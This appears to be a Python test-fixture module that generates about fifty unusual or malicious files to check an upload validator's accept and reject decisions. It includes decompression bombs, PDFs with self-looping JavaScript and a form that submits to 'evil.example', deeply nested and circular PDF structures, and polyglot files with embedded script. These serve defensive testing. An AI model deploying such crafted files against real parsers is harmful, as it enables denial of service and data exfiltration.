"""Fifty odd files with the right answer to each: what it becomes ("jpg", "pdf"), or why it is not taken."""

import io
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

from tests.unit.uploads.papers import make_pdf, make_photo, make_png_bomb

OddFile = tuple[str, bytes, str]
SMALL = (64, 48)


def list_odd_files() -> Iterator[OddFile]:
    """(what it is, its bytes, the answer)."""
    yield from _list_photos()
    yield from _list_broken_photos()
    yield from _list_papers()
    yield from _list_broken_papers()
    yield from _list_others()


def _list_photos() -> Iterator[OddFile]:
    for mode in ("L", "CMYK", "RGB"):
        yield f"JPEG {mode}", _draw(mode, "JPEG"), "jpg"
    yield "JPEG progressive", _draw("RGB", "JPEG", progressive=True), "jpg"
    yield "JPEG of two pictures in one, as phones make them", _draw_several("MPO"), "jpg"
    for mode in ("1", "L", "LA", "P", "RGB", "RGBA", "I;16"):
        yield f"PNG {mode}", _draw(mode, "PNG"), "jpg"
    yield "PNG that moves", _draw_several("PNG"), "jpg"
    yield "PNG with a see-through colour", _draw("P", "PNG", transparency=0), "jpg"
    for mode in ("L", "RGB", "RGBA"):
        yield f"HEIC {mode}", _draw(mode, "HEIF"), "jpg"
    yield "HEIC of two pictures", _draw_several("HEIF"), "jpg"
    yield "JPEG of one pixel", make_photo(size=(1, 1)), "jpg"
    yield "JPEG as thin as a thread", make_photo(size=(1, 30_000)), "jpg"
    yield "PNG of one row", make_photo("PNG", size=(20_000, 1)), "jpg"
    for side in range(2, 9):
        yield f"JPEG turned in way {side}", _turn(side), "jpg"
    yield "JPEG turned in a way that does not exist", _turn(99), "jpg"
    yield "JPEG with words and a page behind it", make_photo(size=SMALL) + b"<html><script>x</script>", "jpg"


def _list_broken_photos() -> Iterator[OddFile]:
    for kind in ("JPEG", "PNG", "HEIF"):
        whole = make_photo(kind, size=(300, 200))
        yield f"{kind} cut in half", whole[: len(whole) // 2], "damaged"
        yield f"{kind} of 30 bytes", whole[:30], "damaged"
    yield "PNG that says it is huge", make_png_bomb(), "too-many-pixels"
    yield "PNG that says it is a little too large", make_png_bomb(7_100), "too-many-pixels"
    yield "PNG with a text that unpacks to a gigabyte", _hide_text_bomb(), "damaged"


def _list_papers() -> Iterator[OddFile]:
    yield "PDF", make_pdf(), "pdf"
    yield "PDF of 60 pages", make_pdf(pages=60), "pdf"
    yield "PDF with scripts", make_pdf(hostile=True), "pdf"
    yield (
        "PDF that only may not be printed",
        _save(_make(), encryption=pikepdf.Encryption(owner="x", user="")),
        "pdf",
    )
    yield "PDF for quick showing", _save(_make(), linearize=True), "pdf"
    yield "PDF after an empty line", b"\r\n" + make_pdf(), "pdf"
    yield "PDF after the mark of a text file", b"\xef\xbb\xbf" + make_pdf(), "pdf"
    yield "PDF without its list of objects", make_pdf().partition(b"startxref")[0], "pdf"
    yield "PDF with an archive behind it", make_pdf() + _archive("evil.html"), "pdf"
    yield "PDF of a page as large as a hall", _save(_make(size=(14_400, 14_400))), "pdf"
    yield "PDF whose script is its own next", _save(_make(_chain_to_itself)), "pdf"
    yield "PDF with a form that sends itself", _save(_make(_add_sending_form)), "pdf"


def _list_broken_papers() -> Iterator[OddFile]:
    yield "PDF with a password", make_pdf(password="x"), "locked"
    yield "PDF of 61 pages", make_pdf(pages=61), "too-many-pages"
    yield "PDF without a page", _save(pikepdf.new()), "damaged"
    yield "PDF of its first line", b"%PDF-1.7\n", "damaged"
    yield "PDF of noughts", b"%PDF-1.7\n" + bytes(5_000), "damaged"
    yield "PDF whose pages are their own parents", _save(_make(_close_a_circle)), "damaged"
    yield "PDF with lists in lists in lists", _nest_lists(), "damaged"


def _list_others() -> Iterator[OddFile]:
    yield "nothing", b"", "empty"
    for name, head in {
        "GIF": b"GIF89a",
        "TIFF": b"II*\0",
        "WebP": b"RIFF\x24\0\0\0WEBPVP8 ",
        "AVIF": b"\0\0\0\x1cftypavif",
        "film": b"\0\0\0\x18ftypmp42",
        "program": b"MZ\x90\0",
        "ELF": b"\x7fELF",
        "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'>",
        "HTML": b"<!doctype html><script>x()</script>",
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "PostScript": b"%!PS-Adobe-3.0\n",
        "GIF that is a PDF further on": b"GIF89a" + bytes(40) + make_pdf(),
    }.items():
        yield name, head + bytes(200), "kind"
    yield "new Word", _archive("word/document.xml"), "kind"


def _draw(mode: str, kind: str, **options: Any) -> bytes:
    written = io.BytesIO()
    Image.new(mode, SMALL).save(written, kind, **options)
    return written.getvalue()


def _draw_several(kind: str) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", SMALL, "red").save(
        written, kind, save_all=True, append_images=[Image.new("RGB", SMALL, "blue")]
    )
    return written.getvalue()


def _turn(way: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = way
    return _draw("RGB", "JPEG", exif=exif)


def _hide_text_bomb() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "0" * (70 * 1024 * 1024), zip=True)
    return _draw("RGB", "PNG", pnginfo=told)


def _archive(name: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(name, "<script>x</script>")
    return written.getvalue()


def _make(
    change: Callable[[pikepdf.Pdf], None] | None = None, *, size: tuple[int, int] = (300, 400)
) -> pikepdf.Pdf:
    paper = pikepdf.new()
    paper.add_blank_page(page_size=size)
    if change is not None:
        change(paper)
    return paper


def _save(paper: pikepdf.Pdf, **options: Any) -> bytes:
    written = io.BytesIO()
    paper.save(written, **options)
    return written.getvalue()


def _chain_to_itself(paper: pikepdf.Pdf) -> None:
    act = paper.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("alert(1)")))
    act.Next = act
    paper.Root.OpenAction = act


def _add_sending_form(paper: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/alert"))
    field = paper.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("x"),
            Rect=[0, 0, 9, 9],
            A=act,
            AA=pikepdf.Dictionary(D=act),
        )
    )
    paper.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    paper.pages[0].obj.Annots = pikepdf.Array([field])


def _close_a_circle(paper: pikepdf.Pdf) -> None:
    paper.Root.Pages.Kids = pikepdf.Array([paper.Root.Pages])


def _nest_lists() -> bytes:
    body = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X "
        + b"[" * 200_000
        + b"]" * 200_000
        + b">>\nendobj\n"
    )
    return body + b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
